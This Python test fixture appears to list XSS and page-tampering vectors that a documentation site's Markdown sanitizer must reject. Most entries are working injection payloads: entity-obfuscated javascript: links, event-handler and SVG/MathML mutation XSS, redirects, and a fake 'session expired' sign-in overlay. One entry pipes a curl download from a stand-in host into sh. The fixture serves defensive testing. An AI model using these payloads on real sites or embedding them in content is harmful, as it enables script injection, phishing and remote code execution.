"""Known ways to run script, leave the site or blank a page through HTML in Markdown.

Each is one line an author (or a hostile pull request) could put into an
answer. The sanitizer must turn every one into a build error, and what it
would serve instead must run nothing in a real browser (tests/test_safety.py).
"""

from __future__ import annotations

VECTORS: dict[str, str] = {
    # Found by trying the site as a hostile contributor would.
    "svg onload": "<svg/onload=alert(1)>",
    "quoted > in src": '<img src="x>" onerror="alert(1)">',
    "base href": '<base href="http://elsewhere.invalid/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://elsewhere.invalid/">',
    "style blanks the page": "<style>body{display:none}</style>",
    "external form": '<form action="http://elsewhere.invalid/"><input type="submit" value="Go"></form>',
    "decimal entity scheme": "[x](&#106;avascript:alert(1))",
    "named entity colon": "[x](javascript&colon;alert(1))",
    "tab entity in scheme": "[x](java&#9;script:alert(1))",
    "angle-bracket link": "[x](<javascript:alert(1)>)",
    "reference definition": "See [the docs][evil].\n\n[evil]: javascript:alert(1)",
    # Case, entities, whitespace and null bytes in schemes.
    "script": "<script>alert(1)</script>",
    "script upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script mixed case with src": "<ScRiPt src=//elsewhere.invalid/x.js></ScRiPt>",
    "href mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href leading space": '<a href=" javascript:alert(1)">x</a>',
    "href null entity": '<a href="java&#0;script:alert(1)">x</a>',
    "href hex tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href newline entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "href all hex entities": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data uri": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    # Frames, objects and srcdoc.
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed src": '<embed src="javascript:alert(1)">',
    # SVG and MathML namespaces.
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg xlink href": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "svg animate onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    "mathml namespace confusion": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mathml href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "latex href": "The rate $\\href{javascript:alert(1)}{\\eta}$ matters.",
    "latex text with html": "The rate $\\text{<img src=x onerror=alert(1)>}$ matters.",
    # Attributes that run script or submit.
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input image onerror": "<input type=image src=x onerror=alert(1)>",
    "autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "body onload": "<body onload=alert(1)>",
    "anchor onclick": '<a href="#" onclick="alert(1)">x</a>',
    "paragraph onmouseover": "<p onmouseover=alert(1)>x</p>",
    "attr_list onclick": '`x`{ onclick="alert(1)" }',
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    # CSS.
    "css url": '<div style="background:url(javascript:alert(1))">x</div>',
    "css expression": '<div style="width: expression(alert(1))">x</div>',
    "external stylesheet": '<link rel="stylesheet" href="http://elsewhere.invalid/x.css">',
    "external image": '<img src="http://elsewhere.invalid/pixel.png" alt="a pixel">',
    # Parser differentials (mutation XSS).
    "comment confusion": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script></template>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    # Found by a hostile review of the sanitizer: harmless markup that the theme's own script or styles misuse.
    "theme settings by id": (
        'An epoch is one pass.\n\n{"base":"https://elsewhere.invalid/x/","features":[],'
        '"translations":{},"version":{"provider":"mike"}}\n{ #__config .md-toggle }'
    ),
    "theme overlay class": "[&nbsp;](https://elsewhere.invalid/){ .md-consent__overlay }",
    "drawer label": '<label for="__drawer" class="md-consent__overlay"></label>',
    "tab radio hijack": '<input type="radio" name="__tabbed_1" id="__tabbed_1_1" checked>',
    "backslash image host": "![e](/\\\\elsewhere.invalid/a.png)",
    "tab entity image host": '<img src="/&#9;/elsewhere.invalid/a.png" alt="c">',
    "mathml offset": '<math><mpadded voffset="-150px" lspace="300px" width="0"><mtext>X</mtext></mpadded></math>',
    "latex kern": "Space $a\\kern{5000em}b$ apart.",
    "mathml scriptlevel overlay": (
        'Note <math><mstyle scriptlevel="-12"><mpadded voffset="2.7em"><mstyle scriptlevel="+12"><mtext>'
        '<a href="https://elsewhere.invalid/login"><strong>Session expired: sign in again</strong></a>'
        "</mtext></mstyle></mpadded></mstyle></math> end."
    ),
    "mathml bar": '<math><mfrac linethickness="2000em"><mi>a</mi><mi>b</mi></mfrac></math>',
    "copy button target": '<div id="__codelineno-1-1" markdown>\n\n```bash\ncurl -s https://elsewhere.invalid/x | sh\n```\n\n</div>',
    "tab set mark": '<div data-tabs="1:1"></div>',
    "quiz class": '<div class="pq-ui" data-topic="basics">x</div>',
}
